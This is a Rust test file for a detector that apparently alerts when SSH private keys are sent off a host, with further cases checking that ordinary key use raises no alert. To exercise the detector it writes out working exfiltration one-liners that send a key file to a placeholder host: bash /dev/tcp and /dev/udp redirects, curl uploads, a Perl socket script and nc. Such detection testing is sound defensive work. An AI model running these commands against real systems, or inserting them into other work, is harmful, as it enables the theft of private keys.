//! Secrets that really leave to an address that looks public, and secrets that are only used.

use std::{
    fs,
    os::unix::fs::PermissionsExt,
    path::PathBuf,
    process::{Command, Stdio},
};

use sentinel_tests::{
    bed::Bed,
    outside::{ADDRESS, Outside, PRIVATE_ADDRESS},
    sentinel::{PATIENCE, Sentinel, within},
};
use serde_json::Value;

/// Bytes of the key: an ed25519 key's.
const KEY_BYTES: usize = 411;

/// A private key, as ssh has them.
fn key(bed: &Bed) -> PathBuf {
    let directory = bed.path(".ssh");
    fs::create_dir_all(&directory).unwrap();
    let key = directory.join("id_ed25519");
    // As hard to compress as a key is.
    let mut state = 1_u32;
    let mut letter = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        char::from(b'0' + (state >> 24) as u8 % 64)
    };
    let content: String = (1..KEY_BYTES).map(|_| letter()).chain(['\n']).collect();
    fs::write(&key, content).unwrap();
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();
    key
}

fn of_rule(alerts: Vec<Value>) -> Vec<Value> {
    alerts.into_iter().filter(|alert| alert["pattern_name"] == "credential_exfil").collect()
}

fn run(command: &mut Command) {
    let command = command.stdin(Stdio::null()).stdout(Stdio::null());
    let output = command.stderr(Stdio::piped()).output().unwrap();
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{command:?}: {} {errors}", output.status);
}

/// Runs each line, an interpreter and its code, and expects one critical alert about `bytes` or more that
/// came to the peer. KEY, HOST and PORT stand for what they say.
fn attacks(address: &str, severity: &str, lines: &[(&[&str], usize)]) {
    let Some(bed) = Bed::new() else { return };
    let (outside, key) = (Outside::new(), key(&bed));
    let sentinel = Sentinel::start(&bed, &[]);
    let mut ports = Vec::new();
    for (line, bytes) in lines {
        let (there, loot) = outside.peer(address);
        ports.push(there.port());
        let code = |word: &&str| {
            word.replace("KEY", key.to_str().unwrap())
                .replace("HOST", &there.ip().to_string())
                .replace("PORT", &there.port().to_string())
        };
        run(outside.command(&bed, line[0]).args(line[1..].iter().map(code)));
        assert!(within(PATIENCE, || loot.bytes().len() >= *bytes), "{line:?} sends nothing");
    }
    let alerts = of_rule(sentinel.stop().alerts);
    for ((line, _), port) in lines.iter().zip(&ports) {
        let mut its = alerts.iter().filter(|alert| alert["remote_port"] == *port);
        let alert = its.next().unwrap_or_else(|| panic!("{line:?} is not told: {alerts:#?}"));
        assert_eq!(its.next(), None, "{line:?}");
        assert_eq!((&alert["severity"], &alert["remote_ip"]), (&severity.into(), &address.into()));
        let steps = alert["steps"].as_array().unwrap();
        let detail = |event: &str| {
            let found = steps.iter().find(|step| step["event"] == event);
            found.unwrap_or_else(|| panic!("{event}: {alert:#}"))["detail"].as_str().unwrap()
        };
        assert!(detail("file_read").contains("id_ed25519 to read (ssh_key, 411 bytes)"));
        assert!(detail("send").contains(address), "{alert:#}");
    }
    assert_eq!(alerts.len(), lines.len(), "{alerts:#?}");
}

#[test]
fn by_one_process_in_either_order() {
    attacks(
        ADDRESS,
        "critical",
        &[
            (&["bash", "-c", "cat KEY >/dev/tcp/HOST/PORT"], KEY_BYTES),
            (&["bash", "-c", "exec 3<>/dev/tcp/HOST/PORT; cat <KEY >&3"], KEY_BYTES),
            (&["bash", "-c", "base64 KEY >/dev/tcp/HOST/PORT"], 550),
            (&["bash", "-c", "gzip -c KEY >/dev/tcp/HOST/PORT"], 206),
            (&["bash", "-c", "tar c KEY 2>/dev/null >/dev/tcp/HOST/PORT"], 10_240),
            (&["curl", "-s", "-T", "KEY", "http://HOST:PORT/"], KEY_BYTES),
            (&["curl", "-s", "--data-binary", "@KEY", "http://HOST:PORT/"], KEY_BYTES),
            (
                &[
                    "perl",
                    "-MSocket",
                    "-e",
                    "socket S,2,1,0; connect S,pack_sockaddr_in(PORT,inet_aton('HOST')) or die; \
                     open F,'<KEY'; while (sysread F,$x,100) { syswrite S,$x }",
                ],
                KEY_BYTES,
            ),
        ],
    );
}

#[test]
fn from_a_file_on_standard_input() {
    let line = "exec nc.openbsd -N HOST PORT <KEY";
    attacks(ADDRESS, "critical", &[(&["bash", "-c", line], KEY_BYTES)]);
}

#[test]
fn to_a_private_network_it_is_a_warning_and_within_the_host_nothing() {
    let line: &[&str] = &["bash", "-c", "cat KEY >/dev/tcp/HOST/PORT"];
    attacks(PRIVATE_ADDRESS, "warning", &[(line, KEY_BYTES)]);
    let Some(bed) = Bed::new() else { return };
    let (outside, key) = (Outside::new(), key(&bed));
    let sentinel = Sentinel::start(&bed, &[]);
    let (there, loot) = outside.peer("127.0.0.1");
    let code = format!("cat {} >/dev/tcp/127.0.0.1/{}", key.display(), there.port());
    run(outside.command(&bed, "bash").args(["-c", &code]));
    assert!(within(PATIENCE, || loot.bytes().len() == KEY_BYTES));
    assert_eq!(of_rule(sentinel.stop().alerts), Vec::<Value>::new());
}

#[test]
fn over_udp() {
    let Some(bed) = Bed::new() else { return };
    let (outside, key) = (Outside::new(), key(&bed));
    let sentinel = Sentinel::start(&bed, &[]);
    let code = format!("cat {} >/dev/udp/{ADDRESS}/9999", key.display());
    run(outside.command(&bed, "bash").args(["-c", &code]));
    let alerts = of_rule(sentinel.stop().alerts);
    assert_eq!((alerts.len(), &alerts[0]["severity"]), (1, &"critical".into()), "{alerts:#?}");
}

/// A key and a certificate for it.
fn certificate(bed: &Bed) -> (PathBuf, PathBuf) {
    let (key, certificate) = (bed.path("tls.key"), bed.path("tls.crt"));
    let mut make = Command::new("openssl");
    make.args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=test", "-keyout"]);
    run(make.arg(&key).arg("-out").arg(&certificate));
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();
    (key, certificate)
}

fn tls_server(command: Command, port: &str, bed: &Bed) -> std::process::Child {
    let mut command = command;
    let (key, certificate) = certificate(bed);
    command.args(["s_server", "-quiet", "-www", "-accept", &format!("{ADDRESS}:{port}"), "-key"]);
    command.arg(key).arg("-cert").arg(certificate).stdin(Stdio::null());
    command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap()
}

#[test]
fn a_server_with_a_key_of_its_own_serves() {
    let Some(bed) = Bed::new() else { return };
    let outside = Outside::new();
    let sentinel = Sentinel::start(&bed, &[]);
    let mut server = tls_server(outside.command(&bed, "openssl"), "4433", &bed);
    let url = format!("https://{ADDRESS}:4433/");
    let fetched = || {
        let mut client = outside.unseen_command("curl");
        client.args(["-sk", &url]).stdin(Stdio::null()).stdout(Stdio::null());
        client.status().unwrap().success()
    };
    assert!(within(PATIENCE, fetched) && fetched() && fetched());
    server.kill().unwrap();
    server.wait().unwrap();
    assert_eq!(of_rule(sentinel.stop().alerts), Vec::<Value>::new());
}

#[test]
fn secrets_that_are_used_and_do_not_leave() {
    let Some(bed) = Bed::new() else { return };
    let (outside, key) = (Outside::new(), key(&bed));
    let sentinel = Sentinel::start(&bed, &[]);
    let (there, _loot) = outside.peer(ADDRESS);
    let url = format!("http://{there}/");
    let upload = bed.path("upload");
    fs::write(&upload, vec![b'x'; 100_000]).unwrap();
    let upload = format!("@{}", upload.display());
    // After a login, which reads /etc/shadow, anything may be sent.
    let fetch = format!("curl -s --data-binary {upload} {url}");
    run(outside.command(&bed, "su").args(["-s", "/bin/sh", "-c", &fetch, "root"]));
    // A small request by who has read a secret.
    let code = "open F, '<KEY' or die; <F>; exec 'curl', '-s', 'URL'";
    let code = code.replace("KEY", key.to_str().unwrap()).replace("URL", &url);
    run(outside.command(&bed, "perl").args(["-e", &code]));
    // The same within TLS.
    let mut server = tls_server(outside.unseen_command("openssl"), "4434", &bed);
    let https = format!("https://{ADDRESS}:4434/");
    let is_up = || {
        let mut client = outside.unseen_command("curl");
        client.args(["-sk", &https]).stdout(Stdio::null()).status().unwrap().success()
    };
    assert!(within(PATIENCE, is_up));
    let code = code.replace(&url, &https).replace("'-s'", "'-sk'");
    run(outside.command(&bed, "perl").args(["-e", &code]));
    // A pipeline in a shell that reads a key for something else, and an upload after that.
    let code = format!("cat {} | wc -c; {fetch}", key.display());
    run(outside.command(&bed, "bash").args(["-c", &code]));
    // What was sent before, on the same connection.
    let code = "socket S,2,1,0; connect S,pack_sockaddr_in(PORT,inet_aton('HOST')) or die; \
                syswrite S,'x' x 50000; open F,'<KEY'; <F>; syswrite S,'y' x 100";
    let code = code.replace("KEY", key.to_str().unwrap());
    let code = code.replace("HOST", ADDRESS).replace("PORT", &there.port().to_string());
    run(outside.command(&bed, "perl").args(["-MSocket", "-e", &code]));
    server.kill().unwrap();
    server.wait().unwrap();
    assert_eq!(of_rule(sentinel.stop().alerts), Vec::<Value>::new());
}
